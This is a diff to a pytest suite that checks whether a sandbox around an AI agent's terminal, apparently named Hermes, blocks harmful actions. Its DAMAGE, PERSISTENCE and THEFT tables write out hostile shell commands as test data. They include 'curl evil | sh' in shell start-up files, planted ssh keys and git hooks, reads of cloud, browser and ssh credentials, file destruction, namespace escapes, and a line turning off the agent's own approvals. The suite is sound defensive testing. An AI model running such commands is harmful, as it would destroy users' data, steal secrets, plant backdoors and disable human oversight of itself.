@@ -14,26 +14,64 @@ DAMAGE = {
     "a file outside is deleted": "rm -f ../beside.txt",
     "a file outside is overwritten through a link": "ln -s ../beside.txt link; echo gone > link",
     "a file outside is moved into the workspace": "mv ../beside.txt .",
-    "the shell's start-up file is changed": "echo 'curl evil | sh' >> ~/.bashrc",
-    "a start-up file appears": "echo 'curl evil | sh' > ~/.bash_profile",
-    "a key is let in": "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
-    "a unit of systemd appears": "echo '[Service]' > ~/.config/systemd/user/evil.service",
-    "an autostart entry appears": "mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/x.desktop",
-    "a program appears in the path": "mkdir -p ~/.local/bin && echo x > ~/.local/bin/ls",
     "Hermes' settings are changed": "echo 'approvals: {mode: off}' > ~/.hermes/config.yaml",
     "Hermes' settings are replaced": "echo x > new; mv new ~/.hermes/config.yaml",
     "a skill is changed": "echo evil > ~/.hermes/skills/one.md",
     "a skill appears": "mkdir ~/.hermes/skills/evil; echo evil > ~/.hermes/skills/evil/SKILL.md",
+    "a file outside is emptied": "truncate -s 0 ~/letter.txt",
+    "a file outside is filled with zeros": "dd if=/dev/zero of=../beside.txt bs=1 count=9 conv=notrunc",
+    "a file outside is shredded": "shred -u ~/letter.txt",
+    "a file outside is edited": "sed -i s/was/is/ ../beside.txt",
+    "everything outside that is found is removed": "find .. -name '*.txt' -delete",
+    "the history of another repository is removed": "rm -rf ../other/.git",
+    "the files of another repository are removed": "cd ../other && find . -type f -exec rm {} +",
     "python does it": "python3 -c \"open('../beside.txt','w').write('x')\"",
     "a child in its own session does it": "setsid -w sh -c 'echo gone > ../beside.txt'",
     "a new namespace does it": "unshare -Urm sh -c 'mount -o remount,rw,bind / ; echo gone > ../beside.txt'",
     "a mount is taken away": "umount -l / ~/.ssh ~/.hermes; mount -o remount,rw /; echo gone > ../beside.txt",
 }
 
+PERSISTENCE = {
+    "the shell's start-up file": "echo 'curl evil | sh' >> ~/.bashrc",
+    "a new start-up file": "echo 'curl evil | sh' > ~/.bash_profile",
+    "another shell's start-up file": "echo evil > ~/.zshenv",
+    "fish's start-up file": "mkdir -p ~/.config/fish && echo evil > ~/.config/fish/config.fish",
+    "a key that is let in": "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
+    "a command for each ssh connection": "echo evil > ~/.ssh/rc",
+    "a unit of systemd": "echo '[Service]' > ~/.config/systemd/user/evil.service",
+    "a unit that is switched on": "cd ~/.config/systemd/user && mkdir default.target.wants && echo x > default.target.wants/x",
+    "an autostart entry": "mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/x.desktop",
+    "a program in the path": "mkdir -p ~/.local/bin && echo x > ~/.local/bin/ls",
+    "a module that every Python loads": "d=$(python3 -m site --user-site); mkdir -p $d && echo evil > $d/usercustomize.py",
+    "a hook of another repository": "echo evil > ../other/.git/hooks/pre-commit",
+    "a new hook of another repository": "echo evil > ../other/.git/hooks/post-checkout",
+    "a program in another repository's settings": "git -C ../other config core.fsmonitor evil",
+    "a program in git's settings": "git config --global core.pager evil",
+    "hooks for every repository": "git config --global core.hooksPath /tmp/evil",
+    "a package manager's settings": "echo 'index-url = evil' > ~/.pip.conf",
+    "an editor's start-up file": "echo ':!evil' > ~/.vimrc",
+    "a terminal's start-up file": "echo 'run-shell evil' > ~/.tmux.conf",
+}
+
 THEFT = {
     "a private key": "cat ~/.ssh/id_rsa",
     "a file of logins": "cat ~/.netrc",
     "Hermes' keys": "cat ~/.hermes/.env",
+    "a cloud's keys": "cat ~/.aws/credentials",
+    "another cloud's keys": "cat ~/.config/gcloud/credentials.db",
+    "a cluster's keys": "cat ~/.kube/config",
+    "a registry's keys": "cat ~/.docker/config.json",
+    "a forge's keys": "cat ~/.config/gh/hosts.yml",
+    "passwords of git": "cat ~/.git-credentials",
+    "passwords of a browser": "cat ~/.config/google-chrome/Default/'Login Data'",
+    "passwords of another browser": "cat ~/.mozilla/firefox/*/logins.json",
+    "keys to sign with": "cat ~/.gnupg/private-keys-v1.d/*",
+    "what was typed": "cat ~/.bash_history",
+    "by a fetch": "curl -s file://$HOME/.ssh/id_rsa",
+    "by python": "python3 -c \"import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())\"",
+    "by a search": "grep -rh canary ~ --exclude-dir=skills",
+    "by reading all there is": "find ~ -type f ! -path '*/skills/*' -exec cat {} +",
+    "by a child in its own session": "setsid -w cat ~/.ssh/id_rsa",
     "through a link": "ln -s ~/.ssh/id_rsa here; cat here",
     "through a hard link": "ln ~/.ssh/id_rsa here; cat here",
     "by copying the home": "cp -r ~/. all; cat all/.ssh/id_rsa",
@@ -44,19 +82,49 @@ THEFT = {
 }
 
 
-@pytest.mark.parametrize("attack", DAMAGE.values(), ids=DAMAGE.keys())
+CHANGES = DAMAGE | PERSISTENCE
+
+
+@pytest.mark.parametrize("attack", CHANGES.values(), ids=CHANGES.keys())
 async def test_nothing_outside_the_workspace_changes(scene: Scene, held: Kind, attack: str) -> None:
     before = scene.files()
     await scene.terminal(held).run(attack, timeout=20)
     assert scene.files() == before
 
 
-@pytest.mark.parametrize("attack", DAMAGE.values(), ids=DAMAGE.keys())
+@pytest.mark.parametrize("attack", CHANGES.values(), ids=CHANGES.keys())
 async def test_without_a_sandbox_it_would_have_changed(scene: Scene, attack: str) -> None:
     before = scene.files()
     attack = attack.replace("unshare -Urm", "").replace("mount -o", "true").replace("umount", "true")
     await scene.terminal("off").run(attack, timeout=20)
     assert scene.files() != before
+
+
+@pytest.mark.parametrize(
+    "place",
+    [
+        "/etc/cron.d",
+        "/etc/cron.hourly",
+        "/var/spool/cron/crontabs",
+        "/etc/profile.d",
+        "/etc/systemd/system",
+        "/etc/init.d",
+        "/etc/xdg/autostart",
+        "/usr/local/bin",
+        "/usr/lib/python3/dist-packages",
+        "/root",
+    ],
+)
+async def test_nothing_that_the_machine_runs_by_itself_can_be_added(scene: Scene, held: Kind, place: str) -> None:
+    """Not shown to work without a sandbox: that would change the machine of whoever runs the tests, if it is root's."""
+    if not os.path.isdir(place):
+        pytest.skip(f"there is no {place} here")
+    planted = Path(place, f"hermes-{os.urandom(4).hex()}")
+    try:
+        ran = await scene.terminal(held).run(f"echo evil > {planted}", timeout=20)
+        assert (ran.code != 0, planted.exists()) == (True, False)
+    finally:
+        planted.unlink(missing_ok=True)
 
 
 @pytest.mark.parametrize("attack", THEFT.values(), ids=THEFT.keys())
@@ -95,6 +163,13 @@ async def test_row_10_a_child_that_dumps_everything_sees_no_canary(scene: Scene,
     assert (bare.count(b"KEY=" + CANARY.encode()) > 0, secret.name.encode() in bare) == (True, True)
     assert CANARY.encode() not in seen.read_bytes()
     assert b"HERMES_MARK" in seen.read_bytes()
+
+
+async def test_the_mode_of_a_file_outside_stays_as_it_is(scene: Scene) -> None:
+    """Landlock does not know of modes, and its notice says so."""
+    before = scene.files()
+    ran = await scene.terminal("bubblewrap").run("chmod 000 ~/letter.txt", timeout=20)
+    assert (ran.code != 0, scene.files()) == (True, before)
 
 
 async def test_hooks_and_settings_of_git_stay_as_they_are(scene: Scene) -> None:
